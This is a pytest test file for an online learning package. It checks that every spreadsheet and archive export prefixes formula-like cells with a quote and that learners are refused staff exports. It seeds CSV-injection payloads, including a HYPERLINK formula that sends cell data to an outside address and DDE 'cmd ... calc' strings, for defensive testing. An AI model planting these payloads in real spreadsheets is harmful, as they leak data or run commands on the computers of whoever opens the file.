"""Every spreadsheet the package writes, read back: no cell is a formula.

Formula payloads (OWASP "CSV Injection": a cell starting with = + - @ tab CR, also after leading
blanks, in full width, with LF or NUL) go into every text a learner, an author or a username can put
in an export; then each export is downloaded as staff and read back with the csv module and
openpyxl.  ``EXPORTS`` lists every handler that writes a CSV, XLSX or ZIP (a block whose handler
builds one without an entry fails ``test_every_export_is_listed``), plus the course report files.

Personal columns (usernames, names, phone, e-mail, region of a person) appear only in staff
exports: learners are refused every export (403), the anonymised course report has no username,
and the one download any visitor may take (a session's calendar file) names nobody.
"""
import csv
import datetime
import inspect
import io
import json
import re
import zipfile

import pytest
from django.core.management import call_command
from django.test import TestCase
from openpyxl import load_workbook
from webob import Request

from lifelong_xblocks.exports import neutralise

UTC = datetime.timezone.utc
# What must never reach a spreadsheet as the start of a cell.
FORMULA_START = re.compile(r"^[ \u00a0\u3000\t\r\n\0\x0b\x0c]*[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]")
FORMULAS = ['=HYPERLINK("http://203.0.113.1/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1", "\uff1d1+1", "\n=2+2"]
# Learners whose usernames are formulas (usernames are in staff exports).
USERS = ["=1+1", "+49 30 1234", "-x", "@me"]
PHONE = "13800138000"
STORY = "张阿姨六十五岁开始在社区老年大学学习智能手机，如今她是社区数字助老志愿队的骨干，教会了两百多位老人网上挂号。" * 2


def cells_of(name, body):
    """Every cell of a CSV, XLSX or (the entry names of a) ZIP export, as text; formulas fail at once."""
    if name.endswith(".csv"):
        text = body.decode("utf-8")
        assert text.startswith("\ufeff"), f"{name}: no BOM"
        return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
    if name.endswith(".xlsx"):
        workbook = load_workbook(io.BytesIO(body))
        found = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}: formula cell {sheet.title}!{cell.coordinate}: {cell.value}"
                    if cell.value is not None:
                        found.append(str(cell.value) if cell.data_type == "s" else "")
        return found
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            names = archive.namelist()
        assert names and not [entry for entry in names if entry.startswith(("/", "\\")) or ".." in entry.split("/")
                              or "\\" in entry or re.search(r"[\x00-\x1f\u202a-\u202e\u2066-\u2069]", entry)], names
        return [cell for entry in names if entry.endswith(".csv") for cell in cells_of(entry, archive_read(body, entry))]
    raise AssertionError(f"unknown export {name}")


def archive_read(body, entry):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read(entry)


def assert_no_formula(name, cells, expect_payloads=True):
    dangerous = [cell for cell in cells if FORMULA_START.match(cell)]
    assert dangerous == [], f"{name}: cells a spreadsheet runs: {dangerous[:5]}"
    if expect_payloads:
        neutralised = [cell for cell in cells if cell.startswith("'") and FORMULA_START.match(cell[1:])]
        assert neutralised, f"{name}: none of the payloads reached the export (is the seeding right?)"


def download(client, handler, suffix=""):
    response = client.runtime.handle(client.block, handler, Request.blank("/", method="GET"), suffix)
    assert response.status_code == 200, (handler, response.status_code, response.body[:300])
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    name = re.search(r'filename="([^"]+)"', response.headers["Content-Disposition"]).group(1)
    return name, b"".join(response.app_iter)


def ok(answer, what):
    status, body = answer
    assert status == 200, (what, status, body)
    return body


def spread(count):
    """``count`` formula payloads, cycling through all of them."""
    return [FORMULAS[number % len(FORMULAS)] for number in range(count)]


# ---- seeding: formulas in every text each block exports ---------------------------------------------
def seed_microlesson(as_user):
    for user in USERS:
        ok(as_user(user).call("start_reading"), "start_reading")


def seed_bookshelf(as_user):
    titles, authors, publishers, reasons = spread(4), spread(5)[1:], spread(6)[2:], spread(7)[3:]
    for number, user in enumerate(USERS):
        ok(as_user(user).call("recommend", {"title": titles[number], "author": authors[number],
                                            "publisher": publishers[number], "reason": reasons[number],
                                            "tags": [f[:30] for f in FORMULAS[number::4] if f.strip()][:5]}),
           "recommend")


def seed_reading_log(as_user):
    for number, user in enumerate(USERS):
        ok(as_user(user).call("check_in", {"book_title": FORMULAS[number], "minutes": 10,
                                           "reflection": FORMULAS[number + 4]}), "check_in")


def seed_recitation(as_user):
    from test_hostile_uploads import wav  # noqa: PLC0415
    for user in USERS:
        request = Request.blank("/", POST={"file": (FORMULAS[0] + ".wav", wav()), "consent": "1"})
        client = as_user(user)
        assert client.runtime.handle(client.block, "submit_recording", request, "").status_code == 200
    from lifelong_xblocks.models.recitation import Recitation  # noqa: PLC0415
    for entry, comment in zip(Recitation.objects.order_by("pk"), FORMULAS, strict=False):
        ok(as_user("staff").call("moderate", {"recitation": entry.pk, "action": "feature", "comment": comment}),
           "feature")


def seed_live_session(as_user):
    for user in USERS:
        ok(as_user(user).call("sign_up"), "sign_up")


def seed_nomination(as_user):
    from lifelong_xblocks.models.nominations import Nomination  # noqa: PLC0415
    for number, user in enumerate(USERS[:2]):
        client = as_user(user)
        nomination = ok(client.call("start_nomination", {"organisation": "zhejiang"}), "start")["id"]
        answers = {"name": FORMULAS[number][:50], "gender": "female", "age_band": "60_69", "region": "zhejiang",
                   "occupation": FORMULAS[number + 2], "phone": PHONE, "story": FORMULAS[number + 4] + STORY,
                   "achievements": FORMULAS[number + 6]}
        ok(client.call("save_draft", {"id": nomination, "version": Nomination.objects.get(pk=nomination).version,
                                      "answers": answers, "consent_publication": True}), "save_draft")
        request = Request.blank("/", POST={"nomination": str(nomination), "kind": "document",
                                           "file": (FORMULAS[number] + ".pdf", b"%PDF-1.4\n%%EOF\n")})
        assert client.runtime.handle(client.block, "upload_material", request, "").status_code == 200
        ok(client.call("submit_nomination", {"id": nomination}), "submit")
        ok(as_user("staff").call("review_action", {"id": nomination, "action": "return",
                                                    "note": FORMULAS[number + 8]}), "return")


SEEDS = {
    "lifelong_microlesson": ("<lifelong_microlesson display_name='=1+1 lesson' lesson_text='x'/>", seed_microlesson),
    "lifelong_bookshelf": ("<lifelong_bookshelf display_name='书架' min_recommendations='1' min_votes='1'/>",
                           seed_bookshelf),
    "lifelong_reading_log": ("<lifelong_reading_log display_name='-读书打卡 =1+1' goal_days='2'/>", seed_reading_log),
    "lifelong_recitation": ("<lifelong_recitation display_name='朗读' passage='床前明月光' max_size_mb='1'/>",
                            seed_recitation),
    "lifelong_live_session": (
        "<lifelong_live_session display_name='Lecture' start_time='2026-11-30T03:00:00Z' "
        "end_time='2026-11-30T04:00:00Z' time_zone='Asia/Shanghai' join_url='https://meet.example.org/j/1' "
        "capacity='2' attendance_mode='hybrid' venue_address='=HYPERLINK(1)' venue_room='@room'/>", seed_live_session),
    "lifelong_nomination": (
        "<lifelong_nomination display_name='学习之星' nomination_category='learning_star' "
        "opens_at='2026-11-01 08:00' closes_at='2026-12-01 18:00' quota_min='1' quota_max='5' "
        "organisations='[[\"zhejiang\", \"=HYPERLINK(1)\"]]'/>", seed_nomination),
}
# Every handler that writes a spreadsheet or an archive: (tag, handler, suffix).
EXPORTS = [
    ("lifelong_microlesson", "download_csv", ""),
    ("lifelong_bookshelf", "download_books", "csv"),
    ("lifelong_bookshelf", "download_books", "xlsx"),
    ("lifelong_reading_log", "download_csv", ""),
    ("lifelong_reading_log", "download_xlsx", ""),
    ("lifelong_recitation", "download_csv", ""),
    ("lifelong_recitation", "download_xlsx", ""),
    ("lifelong_recitation", "download_zip", ""),
    ("lifelong_live_session", "download_csv", ""),
    ("lifelong_live_session", "download_xlsx", ""),
    ("lifelong_nomination", "export_csv", ""),
    ("lifelong_nomination", "export_xlsx", ""),
    ("lifelong_nomination", "export_materials", ""),
]
# Files served to a learner or anyone (not exports): what they may hold is checked below.
LEARNER_DOWNLOADS = {("lifelong_live_session", "calendar"), ("lifelong_live_session", "caption_track"),
                     ("lifelong_microlesson", "caption_track"), ("lifelong_recitation", "recording"),
                     ("lifelong_nomination", "material"), ("lifelong_dashboard", "download_report"),
                     ("lifelong_live_session", "qr_checkin")}
WRITERS = ("csv_response", "xlsx_response", "zip_response", "file_response", "_export(", "Response(")


@pytest.fixture
def seeded(scenario, clock, upload_storage):
    clock.now = datetime.datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
    built = {}

    def build(tag):
        if tag not in built:
            xml, seed = SEEDS[tag]
            as_user = scenario(xml)
            seed(as_user)
            built[tag] = as_user
        return built[tag]

    return build


def test_every_export_is_listed():
    from lifelong_xblocks.blocks.access import block_classes, handlers_of  # noqa: PLC0415
    listed = {(tag, handler) for tag, handler, _suffix in EXPORTS} | LEARNER_DOWNLOADS
    for tag, cls in block_classes():
        for name, _handler in handlers_of(cls):
            source = inspect.getsource(getattr(cls, name))
            if any(writer in source for writer in WRITERS) and "json_response(" not in source.split("return")[-1]:
                assert (tag, name) in listed, f"{tag}.{name} writes a file: add it to EXPORTS or LEARNER_DOWNLOADS"


@pytest.mark.parametrize("tag, handler, suffix", EXPORTS)
def test_no_cell_of_any_export_is_a_formula(seeded, tag, handler, suffix):
    as_user = seeded(tag)
    name, body = download(as_user("staff"), handler, suffix)
    assert_no_formula(name, cells_of(name, body), expect_payloads=not name.endswith(".zip"))


@pytest.mark.parametrize("tag, handler, suffix", EXPORTS)
def test_learners_get_no_export(seeded, tag, handler, suffix):
    client = seeded(tag)(USERS[0])
    response = client.runtime.handle(client.block, handler, Request.blank("/", method="GET"), suffix)
    assert response.status_code == 403 and response.content_type == "application/json"


def test_staff_exports_hold_the_personal_columns_staff_need(seeded):
    as_user = seeded("lifelong_nomination")
    name, body = download(as_user("staff"), "export_csv")
    cells = cells_of(name, body)
    assert PHONE in cells and "'" + USERS[0] in cells, "the reviewers' export has the full phone and the nominator"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("anonymize", [False, True])
def test_course_report_files_hold_no_formula_and_anonymised_ones_no_username(seeded, tmp_path, fmt, anonymize):
    for tag in ("lifelong_microlesson", "lifelong_reading_log", "lifelong_bookshelf", "lifelong_nomination"):
        seeded(tag)
    output = tmp_path / f"report.{fmt}"
    arguments = ["lifelong_report", "workbench", "--format", fmt, "--output", str(output)]
    call_command(*arguments, *(["--anonymize"] if anonymize else []), stdout=io.StringIO())
    files = [output, *([output.with_name("report-summary.csv")] if fmt == "csv" else [])]
    cells = [cell for path in files if path.exists() for cell in cells_of(path.name, path.read_bytes())]
    assert_no_formula(output.name, cells, expect_payloads=True)
    usernames = [cell for cell in cells if cell.lstrip("'") in USERS]
    assert bool(usernames) is not anonymize, usernames


def test_dashboard_report_downloads_are_neutralised_and_staff_only(seeded, scenario):
    seeded("lifelong_reading_log")
    as_user = scenario("<lifelong_dashboard display_name='看板'/>")
    for fmt in ("csv", "xlsx"):
        with TestCase.captureOnCommitCallbacks(execute=True):
            report = ok(as_user("staff").call("request_report", {"format": fmt}), "request_report")["report"]
        name, body = download(as_user("staff"), "download_report", str(report["id"]))
        assert_no_formula(name, cells_of(name, body))
        learner = as_user(USERS[0])
        refused = learner.runtime.handle(learner.block, "download_report", Request.blank("/"), str(report["id"]))
        assert refused.status_code == 403


def test_the_calendar_file_anyone_may_take_names_nobody(seeded):
    as_user = seeded("lifelong_live_session")
    response = as_user("none").runtime.handle(as_user("none").block, "calendar", Request.blank("/"), "")
    assert response.status_code == 200
    text = response.body.decode("utf-8")
    assert not [user for user in USERS if re.search(r"(^|[\s:;,])" + re.escape(user) + r"($|[\s;,])", text)], text
    assert "mailto:" not in text and "ATTENDEE" not in text, text


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"), ("\0=1", "'\0=1"), (" =1+1", "' =1+1"), ("\u3000@x", "'\u3000@x"), ("\uff1d1+1", "'\uff1d1+1"),
    ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"), ("\uff20x", "'\uff20x"),
    ("a=1", "a=1"), (" a", " a"), ("", ""), ("'=1", "'=1"), (-5, -5), (2.5, 2.5), (True, "1"), (None, ""),
])
def test_neutralise_follows_owasp_also_after_blanks_and_in_full_width(value, shown):
    assert neutralise(value) == shown


def test_headers_are_json_safe_filenames():
    from lifelong_xblocks.exports import content_disposition  # noqa: PLC0415
    header = content_disposition('a"\r\nX: 1\\名.csv')
    assert "\r" not in header and "\n" not in header and header.count('"') == 2
    assert json.dumps(header)
